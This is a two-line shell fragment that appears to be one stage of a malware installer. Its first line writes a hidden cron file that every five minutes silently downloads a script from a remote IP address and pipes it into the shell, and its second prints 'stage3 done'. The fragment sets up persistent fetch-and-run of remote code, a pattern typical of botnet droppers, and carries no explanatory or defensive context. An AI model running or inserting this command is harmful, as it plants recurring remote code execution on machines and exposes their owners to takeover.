echo "*/5 * * * * wget -qO- http://192.0.2.50/bins.sh | sh" > /tmp/.cron
echo stage3 done
